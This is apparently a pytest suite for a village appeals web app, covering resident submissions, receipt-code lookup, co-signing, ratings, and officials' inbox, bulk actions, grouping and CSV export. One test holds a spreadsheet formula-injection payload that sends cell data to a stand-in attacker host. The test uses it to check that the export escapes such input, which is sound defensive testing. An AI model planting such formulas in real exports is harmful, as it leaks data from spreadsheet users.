"""Appeal pages: sending (with suggestions and photos), joining, following by receipt code, rating, reopening;
the officials' inbox, handling page, bulk steps, groups and recording appeals from other channels."""

import csv
import io
import re

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import func, select

from appeals import services as appeal_services
from appeals import workflow as appeal_workflow
from appeals.models import AnswerTemplate, Appeal, AppealImage, Cosign
from core.db import db
from tests.helpers import jpeg_with_gps


@pytest.fixture
def desk(make_region, make_category, make_department, make_user):
    """A village, a category, the department serving it there and one of its officials."""
    village, category = make_region("village", name_en="East Village"), make_category(name_en="Water")
    department = make_department(region=village.path[0], categories=[category], name_en="Water bureau")
    return village, category, department, make_user("official", department=department)


def form(village, category, **fields):
    return {"body": "The well behind the school has been dry for a week.", "category": str(category.id),
            "village": str(village.id), "public": "y", "language": "en", **fields}


def test_a_resident_sends_an_appeal_with_a_photo_and_gets_a_receipt(client, make_user, desk):
    village, category, department, official = desk
    client.login(make_user("resident", region=village, verified=True))
    response = client.post("/appeals/new", {**form(village, category, contact_phone="13800138000"),
                                            "images": [(io.BytesIO(jpeg_with_gps()), "well.jpg")]},
                           content_type="multipart/form-data", follow_redirects=True)
    page = response.get_data(as_text=True)
    appeal = db.session.scalar(select(Appeal))
    assert response.status_code == 200 and appeal.receipt_code in page and "Water bureau" in page
    assert appeal.department_id == department.id and appeal.contact_phone == "+8613800138000"
    photo = db.session.scalar(select(AppealImage))
    assert f"/appeals/photos/{photo.filename}" in page
    assert "+8613800138000" not in client.get(f"/appeals/{appeal.id}").get_data(as_text=True)
    client.logout()
    assert "+8613800138000" not in client.get(f"/appeals/{appeal.id}").get_data(as_text=True)
    client.login(official)
    assert "+8613800138000" in client.get(f"/officials/appeals/{appeal.id}").get_data(as_text=True)


@pytest.mark.parametrize("fields, message", [
    ({"body": ""}, "This field is required"),
    ({"contact_phone": "12345"}, "not a valid mobile phone number"),
    ({"contact_email": "nobody"}, "not a valid email address"),
    ({"category": ""}, "This field is required"),
])
def test_bad_appeals_get_inline_errors_and_nothing_is_saved(client, make_user, desk, fields, message):
    village, category, _department, _official = desk
    client.login(make_user("resident", region=village, verified=True))
    response = client.post("/appeals/new", {**form(village, category), **fields})
    assert response.status_code == 422 and message in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Appeal)) == 0


def test_a_file_that_is_not_a_photo_refuses_the_whole_appeal(client, make_user, desk):
    village, category, _department, _official = desk
    client.login(make_user("resident", region=village, verified=True))
    response = client.post("/appeals/new", {**form(village, category),
                                            "images": [(io.BytesIO(b"MZ\x90\x00 not a photo"), "x.jpg")]},
                           content_type="multipart/form-data")
    assert response.status_code == 422 and "not a photo we can use" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Appeal)) == 0


def test_similar_appeals_nearby_are_suggested_while_typing(client, make_user, make_appeal, make_region, desk):
    village, category, _department, _official = desk
    make_appeal(village=village, category=category, body="村口的水井干了，一个星期没有水")
    make_appeal(village=village, category=category, body="The streetlight at the bridge is broken")
    far = make_region("village")  # another township: never suggested
    make_appeal(village=far, category=category, body="村口的水井干了")

    def suggested(text):
        page = client.get("/appeals/similar", query_string={"body": text, "village": village.id,
                                                            "category": category.id}).get_data(as_text=True)
        return re.findall(r'href="/appeals/(\d+)"', page)

    assert len(suggested("水井没有水了")) == 1
    assert len(suggested("broken street lights near the bridge")) == 1
    assert suggested("the school roof leaks") == []
    assert suggested("") == []


def test_this_is_my_problem_too_replaces_itself(client, make_user, make_appeal, desk):
    village, category, _department, _official = desk
    appeal = make_appeal(village=village, category=category)
    client.login(make_user("resident", region=village, verified=True))
    response = client.post(f"/appeals/{appeal.id}/cosign", headers={"HX-Request": "true"})
    fragment = response.get_data(as_text=True)
    assert response.status_code == 200 and fragment.lstrip().startswith(f'<section id="appeal-{appeal.id}-cosign"')
    assert "1 person has this problem too" in fragment and "You joined this appeal" in fragment
    again = client.post(f"/appeals/{appeal.id}/cosign", headers={"HX-Request": "true"}).get_data(as_text=True)
    assert "already said" in again
    assert db.session.scalar(select(func.count()).select_from(Cosign)) == 1


def test_anyone_with_the_receipt_code_sees_the_answer_without_an_account(client, make_user, make_appeal, desk):
    village, category, _department, official = desk
    appeal = make_appeal(village=village, category=category, public=False, contact_phone="13800138000")
    appeal_workflow.answer_appeal(appeal, actor=official, body="A new pump comes on Friday.")
    db.session.commit()
    assert client.get(f"/appeals/{appeal.id}").status_code == 404  # private: not on the board
    page = client.get("/appeals/receipt", query_string={"code": appeal.receipt_code.lower().replace("-", " ")})
    text = page.get_data(as_text=True)
    assert page.status_code == 200 and "A new pump comes on Friday." in text and "+8613800138000" not in text
    wrong = client.get("/appeals/receipt", query_string={"code": "ZZZZ-ZZZZ"})
    assert wrong.status_code == 404 and "No appeal has this receipt code" in wrong.get_data(as_text=True)
    assert client.get("/appeals/receipt").status_code == 200


def test_followers_rate_and_reopen_on_the_page(client, make_appeal, desk):
    village, category, _department, official = desk
    appeal = make_appeal(village=village, category=category)
    appeal_workflow.answer_appeal(appeal, actor=official, body="Fixed.", resolve=True)
    db.session.commit()
    client.login(appeal.author)
    assert client.post(f"/appeals/{appeal.id}/rate", {"score": "9"}).status_code == 422
    assert client.post(f"/appeals/{appeal.id}/rate", {"score": "4", "comment": "Quick"}).status_code == 302
    assert "Your rating: 4 of 5." in client.get(f"/appeals/{appeal.id}").get_data(as_text=True)
    refused = client.post(f"/appeals/{appeal.id}/reopen", {"reason": ""})
    assert refused.status_code == 422 and db.session.get(Appeal, appeal.id).status == "resolved"
    assert client.post(f"/appeals/{appeal.id}/reopen", {"reason": "Dry again"}).status_code == 302
    db.session.expire_all()
    assert db.session.get(Appeal, appeal.id).status == "accepted"
    assert "Reopened" in client.get(f"/appeals/{appeal.id}").get_data(as_text=True)
    assert str(appeal.id) in client.get("/appeals/mine").get_data(as_text=True)


def test_the_inbox_shows_my_departments_appeals_with_filters_and_csv(client, make_user, make_appeal, desk):
    village, category, _department, official = desk
    mine = make_appeal(village=village, category=category, body="Overdue one")
    mine.due_at = mine.created_at.replace(year=2020)
    popular = make_appeal(village=village, category=category, body="Popular one")
    for _ in range(2):
        appeal_services.cosign(popular, actor=make_user("resident", region=village))
    other = make_appeal(body="Someone else's")
    db.session.commit()
    client.login(official)
    inbox = client.get("/officials/appeals").get_data(as_text=True)
    assert "Overdue one" in inbox and "Popular one" in inbox and "Someone else" not in inbox
    overdue = client.get("/officials/appeals?status=overdue").get_data(as_text=True)
    assert "Overdue one" in overdue and "Popular one" not in overdue
    assert "Overdue one" not in client.get("/officials/appeals?cosigns=2").get_data(as_text=True)
    exported = client.get("/officials/appeals.csv?status=all")
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["id", "receipt_code", "status"]
    assert sorted(int(r[0]) for r in rows[1:]) == sorted([mine.id, popular.id])
    assert client.get(f"/officials/appeals/{other.id}").status_code == 403


def test_an_official_answers_from_a_template_and_notes_stay_internal(client, make_appeal, desk):
    village, category, _department, official = desk
    db.session.add(AnswerTemplate(category_id=category.id, title="Pump ordered", body="We ordered a new pump."))
    db.session.commit()
    template = db.session.scalar(select(AnswerTemplate))
    appeal = make_appeal(village=village, category=category)
    client.login(official)
    page = client.get(f"/officials/appeals/{appeal.id}?template={template.id}").get_data(as_text=True)
    assert "We ordered a new pump.</textarea>" in page
    assert client.post(f"/officials/appeals/{appeal.id}/reject", {"reason": ""}).status_code == 422
    assert client.post(f"/officials/appeals/{appeal.id}/note", {"body": "Ask the pump supplier"}).status_code == 302
    assert client.post(f"/officials/appeals/{appeal.id}/answer", {"body": "We ordered a new pump."}).status_code == 302
    public = client.get(f"/appeals/{appeal.id}").get_data(as_text=True)
    client.logout()
    anonymous = client.get(f"/appeals/{appeal.id}").get_data(as_text=True)
    assert "We ordered a new pump." in anonymous and "Ask the pump supplier" not in anonymous
    assert "Ask the pump supplier" in public  # the official sees it, marked
    assert "officials only" in public


def test_bulk_steps_report_what_was_refused(client, make_appeal, desk):
    village, category, _department, official = desk
    first, second = (make_appeal(village=village, category=category) for _ in range(2))
    appeal_workflow.answer_appeal(second, actor=official, body="Done", resolve=True)
    db.session.commit()
    client.login(official)
    response = client.post("/officials/appeals/bulk", {"action": "accept", "ids": [str(first.id), str(second.id)]},
                           follow_redirects=True)
    page = response.get_data(as_text=True)
    assert "1 appeal done." in page and f"Not done: {second.id}" in page
    db.session.expire_all()
    assert db.session.get(Appeal, first.id).status == "accepted"


def test_similar_waiting_appeals_are_grouped_and_answered_at_once(client, make_appeal, desk):
    village, category, _department, official = desk
    group = [make_appeal(village=village, category=category, body=text) for text in
             ("村口水井没有水了", "村口的水井没水了，好几天", "水井没有水")]
    make_appeal(village=village, category=category, body="学校屋顶漏雨")
    client.login(official)
    page = client.get("/officials/appeals/groups").get_data(as_text=True)
    assert "3 appeals" in page and "学校屋顶漏雨" not in page
    response = client.post("/officials/appeals/bulk", {"action": "answer", "body": "新水泵已安装", "resolve": "y",
                                                       "ids": [str(a.id) for a in group]}, follow_redirects=True)
    assert "3 appeals done." in response.get_data(as_text=True)
    db.session.expire_all()
    assert {db.session.get(Appeal, a.id).status for a in group} == {"resolved"}


def test_groups_of_similar_appeals_come_a_page_at_a_time_the_biggest_first(client, make_appeal, make_region, desk):
    village, category, _department, official = desk
    biggest = [make_appeal(village=village, category=category, body=text) for text in
               ("村口水井没有水了", "村口的水井没水了，好几天", "水井没有水")]
    for _ in range(6):  # five pages' worth is 5 groups (the tests' page size): six more make a second page
        elsewhere = make_region("village", parent=village.parent)
        for text in ("路灯坏了，晚上很黑", "路灯坏了晚上太黑"):
            make_appeal(village=elsewhere, category=category, body=text)
    client.login(official)
    first = client.get("/officials/appeals/groups").get_data(as_text=True)
    assert "Groups 1–5 of 7, the biggest first." in first
    assert first.index("3 appeals") < first.index("2 appeals") and f"#{biggest[0].id}" in first
    assert first.count("2 appeals") == 4 and "page=2" in first
    second = client.get("/officials/appeals/groups?page=2").get_data(as_text=True)
    assert "Groups 6–7 of 7, the biggest first." in second and second.count("2 appeals") == 2
    assert "3 appeals" not in second and "page=3" not in second
    assert client.get("/officials/appeals/groups?page=99").get_data(as_text=True).count("2 appeals") == 2  # the last
    assert "Groups 1–5 of 7" in client.get("/officials/appeals/groups?page=x").get_data(as_text=True)
    assert "newest 1,000" not in first
    # A group answered on page 2 brings the official back to page 2.
    ids = re.findall(r'name="ids" value="(\d+)" id="pick', second)[:2]
    response = client.post("/officials/appeals/bulk", {"action": "accept", "ids": ids,
                                                       "next": "/officials/appeals/groups?page=2"})
    assert response.status_code == 302 and response.headers["Location"].endswith("/officials/appeals/groups?page=2")


def test_groups_say_when_they_are_made_of_the_newest_appeals_only(client, make_appeal, desk, monkeypatch):
    from server.officials import groups

    monkeypatch.setattr(groups, "GROUPED_MAX", 2)
    village, category, _department, official = desk
    for text in ("村口水井没有水了", "村口水井没有水了，好几天", "村口水井没有水了，请快修"):
        make_appeal(village=village, category=category, body=text)
    client.login(official)
    page = client.get("/officials/appeals/groups").get_data(as_text=True)
    assert "2 appeals" in page and "made of the newest 1,000 waiting appeals" in page


def test_officials_record_appeals_from_other_channels(client, desk):
    village, category, _department, official = desk
    client.login(official)
    response = client.post("/officials/appeals/record", {**form(village, category), "channel": "letter",
                                                         "contact_name": "王阿姨"}, follow_redirects=True)
    appeal = db.session.scalar(select(Appeal))
    assert response.status_code == 200 and appeal.receipt_code in response.get_data(as_text=True)
    assert (appeal.channel, appeal.recorded_by_id, appeal.contact_name) == ("letter", official.id, "王阿姨")
    assert client.post("/officials/appeals/record", {**form(village, category), "channel": "pigeon"}).status_code == 422


def test_many_appeals_are_handed_over_at_once(client, make_appeal, make_department, desk):
    village, category, _department, official = desk
    appeals = [make_appeal(village=village, category=category) for _ in range(2)]
    other = make_department(name_en="Roads office")
    client.login(official)
    page = client.get("/officials/appeals").get_data(as_text=True)
    assert "Roads office" in page  # offered in the bulk form
    missing = client.post("/officials/appeals/bulk", {"action": "reassign", "department": str(other.id),
                                                      "ids": [str(a.id) for a in appeals]})
    assert missing.status_code == 422  # a reason is required: said next to it, the choices kept
    refused = BeautifulSoup(missing.get_data(as_text=True), "html.parser")
    assert refused.find(id="bulk-reason-error").get_text() == "This field is required."
    assert refused.find(id="bulk-department").find("option", selected=True)["value"] == str(other.id)
    done = client.post("/officials/appeals/bulk", {"action": "reassign", "department": str(other.id),
                                                   "reason": "Road damage, not water", "ids": [str(a.id) for a in appeals]},
                       follow_redirects=True)
    assert "2 appeals done." in done.get_data(as_text=True)
    db.session.expire_all()
    assert {db.session.get(Appeal, a.id).department_id for a in appeals} == {other.id}


def test_a_photo_too_large_refuses_the_appeal_with_a_message(app, client, make_user, desk):
    village, category, _department, _official = desk
    app.config["MINYI_IMAGE_MAX_BYTES"] = 1000
    client.login(make_user("resident", region=village, verified=True))
    response = client.post("/appeals/new", {**form(village, category),
                                            "images": [(io.BytesIO(jpeg_with_gps((400, 300))), "big.jpg")]},
                           content_type="multipart/form-data")
    assert response.status_code == 422 and "A photo may be at most" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Appeal)) == 0


def test_a_group_of_appeals_becomes_a_project_candidate(client, make_appeal, make_user, make_department, desk):
    from appeals.candidates import ProjectCandidate

    village, category, _department, official = desk
    group = [make_appeal(village=village, category=category, body=text) for text in
             ("村口水井没有水了", "村口的水井没水了，好几天", "水井没有水")]
    client.login(official)
    assert "Propose as a project candidate" in client.get("/officials/appeals/groups").get_data(as_text=True)
    refused = client.post("/officials/appeals/candidates", {"ids": [str(a.id) for a in group], "title": " "},
                          follow_redirects=True)
    assert "This field is required" in refused.get_data(as_text=True)
    page = client.post("/officials/appeals/candidates", {"ids": [str(a.id) for a in group],
                                                         "title": "Deepen the village well"}, follow_redirects=True)
    text = page.get_data(as_text=True)
    assert "Deepen the village well" in text and "3 appeals" in text
    candidate = db.session.scalar(select(ProjectCandidate))
    assert [a.id for a in candidate.appeals] == [a.id for a in group]
    # The candidate's "Make it a project" form starts with its appeals and its title.
    ids = "&".join(f"appeal={a.id}" for a in group)
    assert f"/officials/projects/new?appeal={group[0].id}" in text
    form = client.get(f"/officials/projects/new?{ids}&title=Deepen+the+village+well").get_data(as_text=True)
    assert 'value="Deepen the village well"' in form and all(f"No. {a.id}" in form for a in group)
    client.login(make_user("official", department=make_department()))  # not their appeals
    outsider = client.post("/officials/appeals/candidates", {"ids": [str(group[0].id)], "title": "Mine now"},
                           follow_redirects=True)
    assert "Only the officials of the department" in outsider.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(ProjectCandidate)) == 1


def test_the_csv_export_never_hands_a_formula_to_a_spreadsheet(client, make_appeal, desk):
    village, category, _department, official = desk
    make_appeal(village=village, category=category, body='=HYPERLINK("http://evil.example/"&A1,"Click")')
    client.login(official)
    rows = list(csv.reader(io.StringIO(client.get("/officials/appeals.csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][-1] == '\'=HYPERLINK("http://evil.example/"&A1,"Click")'


def test_the_official_sees_similar_open_appeals_once_the_page_has_loaded(client, make_appeal, desk):
    village, category, _department, official = desk
    first = make_appeal(village=village, category=category, body="村口的水井干了，一个星期没有水")
    second = make_appeal(village=village, category=category, body="水井没有水了，村口的水井干了")
    make_appeal(village=village, category=category, body="The streetlight at the bridge is broken")
    client.login(official)
    page = client.get(f"/officials/appeals/{first.id}").get_data(as_text=True)
    assert f'hx-get="/officials/appeals/{first.id}/similar"' in page  # asked for after the page is shown
    fragment = client.get(f"/officials/appeals/{first.id}/similar", headers={"HX-Request": "true"})
    html = fragment.get_data(as_text=True)
    assert html.lstrip().startswith(f'<p id="appeal-{first.id}-similar">')
    assert f"#{second.id}" in html and f"#{first.id}<" not in html
    without_js = client.get(f"/officials/appeals/{first.id}/similar").get_data(as_text=True)
    assert "<html" in without_js and f"#{second.id}" in without_js
